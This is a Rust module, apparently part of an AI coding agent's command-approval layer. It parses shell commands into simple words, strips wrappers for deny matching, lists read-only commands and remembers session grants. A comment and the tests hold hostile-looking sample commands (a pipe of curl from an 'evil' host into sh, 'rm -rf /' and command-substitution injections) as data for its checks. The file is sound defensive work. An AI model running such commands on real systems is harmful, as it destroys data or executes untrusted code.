//! How approval reads a shell command: its words, whether it is a single simple command, the
//! prefix a session grant remembers, and whether it only reads.
//!
//! The rules are deliberately lopsided. An *allow* (a rule or a grant) only ever covers a
//! simple command: one command, no chaining, no substitution, no redirection, because
//! `cargo test && curl evil | sh` must not ride on an allow for `cargo test`. A *deny* looks
//! at every piece it can find, crudely, because over-matching a deny is safe.

/// Characters that chain, substitute or redirect outside single quotes.
const CONTROL: &[char] = &[';', '&', '|', '\n', '\r', '`', '$', '<', '>', '(', ')'];

/// Words that run another command; a deny for `rm` must also catch `sudo rm`.
const WRAPPERS: &[&str] = &[
    "sudo", "env", "command", "exec", "nohup", "time", "nice", "xargs", "builtin", "doas",
];

/// Programs whose second word names what they do (`git status` vs `git push`).
const SUBCOMMAND_TOOLS: &[&str] = &[
    "apt",
    "apt-get",
    "brew",
    "bun",
    "cargo",
    "deno",
    "docker",
    "dotnet",
    "gh",
    "git",
    "go",
    "gradle",
    "helm",
    "just",
    "kubectl",
    "make",
    "mvn",
    "nix",
    "npm",
    "npx",
    "pip",
    "pip3",
    "pnpm",
    "podman",
    "poetry",
    "rustup",
    "systemctl",
    "terraform",
    "uv",
    "yarn",
];

/// Programs whose effects depend so much on their arguments that a grant remembers the
/// exact command rather than the program.
const EXACT_ONLY: &[&str] = &[
    "rm", "rmdir", "sudo", "su", "doas", "dd", "mkfs", "chmod", "chown", "mv", "kill", "pkill",
    "killall", "shutdown", "reboot", "curl", "wget", "ssh", "scp", "sh", "bash", "zsh", "eval",
];

/// The words of `command` when it is one simple command (quotes removed), else `None`.
pub(crate) fn simple_words(command: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        other => word.push(other),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        // Substitution works inside double quotes.
                        '$' | '`' => return None,
                        '\\' => word.push(chars.next()?),
                        other => word.push(other),
                    }
                }
            }
            '\\' => {
                in_word = true;
                match chars.next()? {
                    '\n' => {}
                    other => word.push(other),
                }
            }
            c if CONTROL.contains(&c) => return None,
            c if c.is_whitespace() => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            other => {
                in_word = true;
                word.push(other);
            }
        }
    }
    if in_word {
        words.push(word);
    }
    (!words.is_empty()).then_some(words)
}

/// Every command-like piece of `command`, for deny matching: split crudely at control
/// characters and quotes, with leading variable assignments and wrapper words dropped.
pub(crate) fn deny_pieces(command: &str) -> Vec<Vec<String>> {
    let mut pieces: Vec<Vec<String>> = Vec::new();
    if let Some(words) = simple_words(command) {
        pieces.push(strip_wrappers(words));
    }
    for raw in
        command.split(|c| CONTROL.contains(&c) || c == '"' || c == '\'' || c == '{' || c == '}')
    {
        let words: Vec<String> = raw.split_whitespace().map(str::to_string).collect();
        if !words.is_empty() {
            pieces.push(strip_wrappers(words));
        }
    }
    pieces
}

fn strip_wrappers(words: Vec<String>) -> Vec<String> {
    let skip = words
        .iter()
        .take_while(|w| WRAPPERS.contains(&w.as_str()) || is_assignment(w) || w.starts_with('-'))
        .count();
    words.into_iter().skip(skip).collect()
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// Whether `words` begin with the words of `prefix`. Whole words, except that a last prefix
/// word ending in `/` or `=` may match the start of a longer word (`--target=`).
pub(crate) fn starts_with_words(words: &[String], prefix: &str) -> bool {
    let expected: Vec<&str> = prefix.split_whitespace().collect();
    let Some((last, head)) = expected.split_last() else {
        return false;
    };
    if words.len() < expected.len() {
        return false;
    }
    if head.iter().zip(words).any(|(want, got)| want != got) {
        return false;
    }
    let got = &words[head.len()];
    got == last || ((last.ends_with('/') || last.ends_with('=')) && got.starts_with(last))
}

/// Commands the `untrusted` policy runs without asking: they read and print, nothing more.
/// Matched like allow rules (whole words, one simple command, no chaining or redirection).
pub const READ_ONLY_COMMANDS: &[&str] = &[
    "ls",
    "cat",
    "head",
    "tail",
    "wc",
    "pwd",
    "grep",
    "rg",
    "find",
    "git status",
    "git log",
    "git diff",
    "git show",
];

/// Options that make a read-only command write files or run other programs.
const WRITING_OPTIONS: &[(&str, &[&str])] = &[
    (
        "find",
        &[
            "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf",
            "-fls",
        ],
    ),
    // `--pre` runs a preprocessor program on every file.
    ("rg", &["--pre"]),
    // `--output=FILE` writes the diff to a file; `--ext-diff` runs an external differ.
    ("git", &["--output", "--ext-diff"]),
];

/// Whether `command` is one of [`READ_ONLY_COMMANDS`], without an option that writes or runs
/// something else.
pub fn is_read_only_command(command: &str) -> bool {
    let Some(words) = simple_words(command) else {
        return false;
    };
    if !READ_ONLY_COMMANDS
        .iter()
        .any(|prefix| starts_with_words(&words, prefix))
    {
        return false;
    }
    let forbidden = WRITING_OPTIONS
        .iter()
        .find(|(program, _)| *program == words[0])
        .map_or(&[][..], |(_, options)| *options);
    !words[1..].iter().any(|word| {
        forbidden
            .iter()
            .any(|option| word == option || word.starts_with(&format!("{option}=")))
    })
}

/// What "allow for this session" remembers for a bash command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum CommandGrant {
    /// Simple commands starting with these words.
    Prefix(String),
    /// Exactly this command text.
    Exact(String),
}

/// The grant a command would get: its first word (plus a subcommand for tools like git and
/// cargo), or the exact text for compound commands and programs too dangerous to generalize.
pub(crate) fn command_grant(command: &str) -> CommandGrant {
    let exact = || CommandGrant::Exact(command.trim().to_string());
    let Some(words) = simple_words(command) else {
        return exact();
    };
    let first = words[0].as_str();
    if EXACT_ONLY.contains(&first) || is_assignment(first) {
        return exact();
    }
    match words.get(1) {
        Some(sub) if SUBCOMMAND_TOOLS.contains(&first) && is_subcommand(sub) => {
            CommandGrant::Prefix(format!("{first} {sub}"))
        }
        _ => CommandGrant::Prefix(first.to_string()),
    }
}

fn is_subcommand(word: &str) -> bool {
    !word.starts_with('-')
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == ':')
}

/// Whether a remembered grant covers `command`.
pub(crate) fn grant_covers(grant: &CommandGrant, command: &str) -> bool {
    match grant {
        CommandGrant::Exact(text) => text == command.trim(),
        CommandGrant::Prefix(prefix) => {
            simple_words(command).is_some_and(|words| starts_with_words(&words, prefix))
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn words(s: &[&str]) -> Vec<String> {
        s.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn simple_commands_are_split_into_unquoted_words() {
        assert_eq!(
            simple_words("git  commit -m 'fix: a b' \"x\\\"y\""),
            Some(words(&["git", "commit", "-m", "fix: a b", "x\"y"]))
        );
        assert_eq!(simple_words("cargo test && rm -rf ~"), None);
        assert_eq!(simple_words("echo $(whoami)"), None);
        assert_eq!(simple_words("echo \"$HOME\""), None);
        assert_eq!(simple_words("ls > out"), None);
        assert_eq!(simple_words("echo 'unterminated"), None);
        assert_eq!(simple_words("   "), None);
        assert_eq!(
            simple_words("echo '$HOME;'"),
            Some(words(&["echo", "$HOME;"]))
        );
    }

    #[test]
    fn deny_pieces_see_through_chains_wrappers_and_quotes() {
        let pieces = deny_pieces("cd x && sudo -E FOO=1 rm -rf / ; echo \"$(rm y)\"");
        assert!(pieces.contains(&words(&["rm", "-rf", "/"])));
        assert!(pieces.contains(&words(&["rm", "y"])));
        assert!(pieces.contains(&words(&["cd", "x"])));
        assert!(deny_pieces("'rm' -rf x").contains(&words(&["rm", "-rf", "x"])));
    }

    #[test]
    fn prefixes_match_whole_words() {
        let cmd = words(&["cargo", "test", "-p", "x"]);
        assert!(starts_with_words(&cmd, "cargo test"));
        assert!(starts_with_words(&cmd, "cargo"));
        assert!(!starts_with_words(
            &words(&["cargo", "testify"]),
            "cargo test"
        ));
        assert!(!starts_with_words(&words(&["cargo"]), "cargo test"));
        assert!(starts_with_words(&words(&["ls", "src/a"]), "ls src/"));
        assert!(!starts_with_words(&cmd, ""));
    }

    #[test]
    fn read_only_commands_are_listed_programs_without_writing_options_or_chains() {
        for command in [
            "ls -la src",
            "cat README.md",
            "head -n 5 a",
            "tail -n 20 log.txt",
            "wc -l *.rs",
            "pwd",
            "grep -rn needle src",
            "rg -n 'a|b' .",
            "find . -name '*.rs' -type f",
            "git status --short",
            "git log --oneline -5",
            "git diff HEAD~1",
            "git show HEAD:README.md",
        ] {
            assert!(is_read_only_command(command), "{command:?}");
        }
        for command in [
            "find . -name x -delete",
            "find . -exec rm {} +",
            "find . -fprint out.txt",
            "rg --pre ./run.sh x",
            "rg --pre=./run.sh x",
            "git diff --output=patch.txt",
            "git log -p --ext-diff",
            "git push",
            "git -C x status",
            "ls > listing.txt",
            "cat a && rm a",
            "cat a | sh",
            "ls $(rm x)",
            "lsblk",
            "catdoc x",
            "sudo ls",
            "echo hi",
        ] {
            assert!(!is_read_only_command(command), "{command:?}");
        }
    }

    #[test]
    fn grants_remember_a_prefix_or_the_exact_command() {
        assert_eq!(
            command_grant("git status -s"),
            CommandGrant::Prefix("git status".into())
        );
        assert_eq!(
            command_grant("git -C x log"),
            CommandGrant::Prefix("git".into())
        );
        assert_eq!(
            command_grant("ls -la src"),
            CommandGrant::Prefix("ls".into())
        );
        assert_eq!(
            command_grant("rm -rf build"),
            CommandGrant::Exact("rm -rf build".into())
        );
        assert_eq!(
            command_grant("make && make test"),
            CommandGrant::Exact("make && make test".into())
        );
        let git_status = command_grant("git status");
        assert!(grant_covers(&git_status, "git status --short"));
        assert!(!grant_covers(&git_status, "git push"));
        assert!(!grant_covers(&git_status, "git status && git push"));
    }
}
